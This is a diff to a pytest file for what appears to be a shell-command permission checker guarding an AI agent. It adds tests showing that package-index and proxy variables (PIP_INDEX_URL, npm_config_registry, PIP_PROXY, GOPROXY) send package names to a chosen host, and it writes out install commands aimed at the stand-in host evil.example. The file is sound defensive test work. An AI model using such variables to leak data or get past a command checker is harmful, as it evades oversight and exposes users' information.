@@ -12,6 +12,7 @@ documentation host.
 from __future__ import annotations
 
 import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -89,15 +90,47 @@ def test_the_question_names_where_the_traffic_goes(command: str, host: str) -> N
     "command",
     [
         "aria2c -x 16 -s 16 http://127.0.0.1/",
-        "http_proxy=x echo hi",
         "curl -sS http://127.0.0.1/",
         "pip install -e .",
+        "no_proxy=localhost pytest -q",
+        "DATABASE_URL=postgres://localhost/db pytest -q",
+        "GOPROXY=direct go build ./...",
     ],
 )
 def test_no_proxy_named_where_there_is_none(command: str) -> None:
-    """aria2c's ``-x`` is its connections per server; an assignment reaches nothing
-    unless a command of the line reaches the network."""
+    """aria2c's ``-x`` is its connections per server; ``no_proxy``, a database's URL and
+    ``GOPROXY=direct`` name no host to reach."""
     reason = getattr(bash(command), "reason", "")
     assert "16" not in reason, reason
-    assert " x" not in reason, reason
+    assert "localhost" not in reason, reason
+    assert "direct" not in reason, reason
     assert reason.count("network access") <= 1, reason
+
+
+def test_a_package_index_or_proxy_set_in_the_environment_is_asked(
+    tmp_path: Path, sink: Sink
+) -> None:
+    """Found reviewing this round: a proxy or a package index set by a variable was not
+    read (``PIP_INDEX_URL=URL pip install requests``, ``npm_config_registry=URL npm
+    install``, ``PIP_PROXY=``, ``npm_config_https_proxy=``, ``GOPROXY=``: allowed as plain
+    installs). Run for real: pip and npm ask the sink for the package, so whatever the
+    package's name carries reaches the host. Now network access to it."""
+    commands = [
+        f"PIP_INDEX_URL={sink.url}simple/ {sys.executable} -m pip download -q --no-deps "
+        "-d dl exo-data-1",
+        f"npm_config_registry={sink.url} npm view exo-data-2 --fetch-retries=0",
+    ]
+    for n, command in enumerate(commands, start=1):
+        sink.lines.clear()
+        subprocess.run(["bash", "-c", command], cwd=tmp_path, capture_output=True, timeout=120,
+                       check=False)  # fmt: skip
+        assert any(f"exo-data-{n}" in line for line in sink.lines), (command, sink.lines)
+        verdict = bash(command)
+        assert isinstance(verdict, Escalate), (command, verdict)
+        assert "network access to 127.0.0.1" in verdict.reason, verdict.reason
+    for command in ("PIP_PROXY=evil.example:1 pip install requests",
+                    "npm_config_https_proxy=http://evil.example:1 npm install",
+                    "GOPROXY=http://evil.example go mod download"):  # fmt: skip
+        verdict = bash(command)
+        assert isinstance(verdict, Escalate), (command, verdict)
+        assert "network access to evil.example" in verdict.reason, verdict.reason
